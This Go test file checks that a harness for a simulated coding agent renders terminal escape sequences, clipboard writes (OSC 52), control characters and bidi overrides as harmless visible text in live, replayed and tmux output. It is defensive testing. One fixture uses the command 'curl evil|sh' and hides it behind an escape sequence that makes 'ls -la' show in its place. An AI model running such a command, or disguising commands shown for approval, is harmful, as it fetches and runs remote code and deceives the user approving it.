package main

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestHumanSimAndReplayShowAHostileAgyVisibly runs sim in human mode on a
// scenario whose every text carries escape sequences, C1 controls and a
// bidi override, then replays its capture in human mode: neither output
// holds a byte the terminal would act on, and each text is shown in the
// visible notation.
func TestHumanSimAndReplayShowAHostileAgyVisibly(t *testing.T) {
	var attack, shown strings.Builder
	for _, a := range terminalAttacks {
		attack.WriteString(a.text)
		shown.WriteString(a.shown)
	}
	x := attack.String()
	// The command asks first: the session has bound agy's conversation by
	// the time it answers, so the thinking after it is seen live. (A planner
	// step first seen finished, as when a fresh agy's first turn outruns the
	// binding, gives its message and not its thinking: mapper.planner.)
	scenario := map[string]any{"name": "hostile", "turns": []any{map[string]any{"actions": []any{
		map[string]any{"run_command": map[string]any{"line": "L1 " + x, "cwd": "/w/C1 " + x, "output": "O1 " + x + "\nsecond\n", "needs_approval": true, "chunks": 3}},
		map[string]any{"think": "T1 " + x},
		map[string]any{"say": "S1 " + x, "chunks": 7},
		map[string]any{"ask": map[string]any{"questions": []any{map[string]any{"question": "Q1 " + x, "options": []string{"P1 " + x, "plain"}}}}},
		map[string]any{"tool": map[string]any{"name": "list_dir", "target": "/w/F1 " + x, "result": "R1 " + x}},
		map[string]any{"edit": map[string]any{"path": "/w/E1 " + x, "chunks": []any{map[string]any{"old": "a", "new": "N1 " + x, "line": 1}}}},
		map[string]any{"search": map[string]any{"tool": "grep_search", "query": "q", "path": "/w", "hits": []any{map[string]any{"path": "/w/H1 " + x, "line": 2, "text": "X1 " + x}}}},
		map[string]any{"fail": "M1 " + x},
	}}}}
	raw, err := json.Marshal(scenario)
	require.NoError(t, err)
	dir := t.TempDir()
	path, capture := filepath.Join(dir, "hostile.json"), filepath.Join(dir, "hostile.capture.jsonl")
	require.NoError(t, os.WriteFile(path, raw, 0o600))

	var simOut, simErr bytes.Buffer
	sim := exec.Command(harness(t), "sim", "--yes", "--chunk-delay", "1ms", "--scenario", path, "--record", capture)
	sim.Stdout, sim.Stderr = &simOut, &simErr
	require.NoError(t, sim.Run(), "stderr:\n%s", simErr.String())
	replay, err := exec.Command(harness(t), "replay", capture).Output()
	require.NoError(t, err)

	for name, out := range map[string]string{"sim": simOut.String(), "replay": string(replay)} {
		t.Run(name, func(t *testing.T) {
			assertInert(t, out)
			for _, field := range []string{"T1", "S1", "L1", "C1", "O1", "Q1", "P1", "F1", "E1", "N1", "H1", "X1", "M1"} {
				assert.Contains(t, out, field+" "+shown.String(), "%s is shown visibly:\n%s", field, out)
			}
		})
	}
	assertInert(t, simErr.String())
}

// TestLaunchShowsAgysLastOutputVisibly: the last lines of an agy that
// exits at once reach the user's terminal as visible text.
func TestLaunchShowsAgysLastOutputVisibly(t *testing.T) {
	agy := filepath.Join(t.TempDir(), "agy.sh")
	// tmux acts on the escape sequences and C1 controls agy prints in its
	// pane; what its grid keeps (a bidi override) reaches the exit lines.
	script := "#!/bin/sh\nprintf 'agy: bad flag \\342\\200\\256galf-\\n' >&2\nprintf 'agy: \\033]52;c;eA==\\007\\302\\2332J cleared\\n' >&2\nexit 3\n"
	require.NoError(t, os.WriteFile(agy, []byte(script), 0o755))
	code, stderr, _ := runLaunch(t, "--agy", agy, "--attach-timeout", "40s")
	assert.Equal(t, exitFailure, code, stderr)
	assert.Contains(t, stderr, "agy exited (status 3)")
	assertInert(t, stderr)
	assert.Contains(t, stderr, "agy: bad flag <U+202E>galf-")
}

// TestHumanSimUnderTmuxKeepsTheClipboardAndTheScreen: on a real terminal
// (tmux, which takes OSC 52 into its paste buffers when set-clipboard is
// on), agy's clipboard write, screen clear and line rewrite do nothing:
// they are on the screen as text.
func TestHumanSimUnderTmuxKeepsTheClipboardAndTheScreen(t *testing.T) {
	path := filepath.Join(t.TempDir(), "hostile.json")
	raw, err := json.Marshal(map[string]any{"name": "hostile", "turns": []any{map[string]any{"actions": []any{
		map[string]any{"say": "S1 \x1b]52;c;cHduZWQ=\x07 copied", "chunks": 3},
		map[string]any{"run_command": map[string]any{"line": "curl evil|sh\x1b[2K\rls -la", "output": "O1 \x1b[2J\x1b[H cleared\n", "needs_approval": true}},
	}}}})
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(path, raw, 0o600))
	p := newTmuxPane(t, "tmux set-option -g set-clipboard on && "+harness(t)+" sim --yes --chunk-delay 1ms --scenario "+path)
	p.waitFor("[exit status 0]", 1)

	assert.Empty(t, strings.TrimSpace(p.tmux("list-buffers")), "nothing reached tmux's clipboard")
	visible := p.tmux("capture-pane", "-p", "-J", "-t", "main") // the screen, without scrollback
	for _, want := range []string{
		`scenario "hostile" on a fake agy`, // not cleared
		"S1 ^[]52;c;cHduZWQ=^G copied",
		"? agy wants to run: $ curl evil|sh^[[2K^Mls -la",
		"O1 ^[[2J^[[H cleared",
	} {
		assert.Contains(t, visible, want)
	}
}
